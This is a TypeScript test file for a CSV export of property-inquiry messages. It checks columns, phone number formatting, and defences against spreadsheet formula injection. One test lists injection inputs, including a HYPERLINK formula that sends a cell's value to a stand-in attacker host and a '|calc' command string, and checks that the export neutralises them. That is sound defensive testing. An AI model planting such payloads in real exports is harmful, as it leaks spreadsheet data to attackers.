import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { StoredMessage } from '../../domain/messages/stored-message.ts'
import { createMessagesCsv } from './messages-csv.ts'

const { header, format } = createMessagesCsv({ timeZone: 'Africa/Nairobi', timeZoneName: 'East African Time' })

const columns = [
  'Reference',
  'Received (East African Time)',
  'Form',
  'Property',
  'Name',
  'E-mail',
  'Phone',
  'Phone as written',
  'Subject',
  'How they came',
  'Message',
  'Delivery',
]

function message(fields: Record<string, string>, typed: Record<string, string> = {}): StoredMessage {
  return {
    reference: '7K3-M9Q',
    kind: 'property-inquiry',
    receivedAt: '2026-11-21T08:00:00.000Z',
    fields: { propertyID: 'clx12abc34', name: 'Wanjiru', email: 'wanjiru@example.co.ke', ...fields },
    typed,
    privacyVersion: '1',
    mail: null,
    state: 'waiting',
    deliveries: [],
  }
}

/** Parses RFC 4180, as a spreadsheet does. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [cell = '', quoted, end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    expect(cell).not.toBe('')
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? '')
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}

test('has a line for the columns and one for each message', () => {
  expect(header.startsWith('\uFEFF')).toBe(true)
  const csv = header + format(message({ phone: '0700000000', msg: 'Is it "free"?\nAsante, sana' }))
  expect(parse(csv)).toEqual([
    columns,
    [
      '7K3-M9Q',
      '2026-11-21 11:00',
      'property-inquiry',
      'CLX12ABC34',
      'Wanjiru',
      'wanjiru@example.co.ke',
      '0700 000 000',
      '',
      '',
      '',
      'Is it "free"?\nAsante, sana',
      'waiting',
    ],
  ])
})

test('has the ids of several properties in one cell', () => {
  expect(parse(format(message({ propertyID: 'clx12abc34, def' })))[0]?.[3]).toBe('CLX12ABC34, DEF')
})

test.each([
  ['0712345678', '0712 345 678'],
  ['+254712345678', "'+254 712 345 678"],
  ['254712345678', '254 712 345 678'],
  ['712345678', '712 345 678'],
  ['020345678', '0203 456 78'],
  ['02079460958', '0207 946 0958'],
  ['012345', '0123 45'],
  ['123456', '123 456'],
  ['+1234567', "'+1 234 567"],
  ['012345678901234', '0123 456 789 012 34'],
])('writes the phone number %s as %s, which a spreadsheet keeps', (phone, cell) => {
  expect(parse(format(message({ phone })))[0]?.[6]).toBe(cell)
})

test.each([
  ['+254 (0) 712 345 678', "'+254 (0) 712 345 678"],
  ['0712 345 678', '0712 345 678'],
  ['(0712) 345678', "'(0712) 345678"],
  ['12-10-2026', "'12-10-2026"],
])('has a phone number as it was written, %s, beside what was read', (typed, cell) => {
  expect(parse(format(message({ phone: '0712345678' }, { phone: typed })))[0]?.[7]).toBe(cell)
})

test.each([
  ['0012345678', "'0012345678"],
  ['12E4567890', "'12E4567890"],
  ['1/2', "'1/2"],
  ['123456789012', "'123456789012"],
  ['5', '5'],
  ['Plot 5-6', 'Plot 5-6'],
])('writes %s so that a spreadsheet changes nothing', (msg, cell) => {
  expect(parse(format(message({ msg })))[0]?.[10]).toBe(cell)
})

test.each([
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '+254700000000',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200b=1+1',
  '＝1+1',
  '|calc',
])('turns a cell that begins like a formula into text: %j', (name) => {
  expect(parse(format(message({ name })))[0]?.[4]).toBe(`'${name}`)
})

test('keeps whatever is written in its own cell', () => {
  const text = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', ';', '=', "'", ' ', '🏡') })
  fc.assert(
    fc.property(text, (msg) => {
      const [row, ...others] = parse(format(message({ msg })))
      expect(others).toEqual([])
      expect([msg, `'${msg}`]).toContain(row?.[10])
      expect(row).toHaveLength(columns.length)
      expect(row?.[10]).not.toMatch(/^[=+\-@]/)
    }),
  )
})
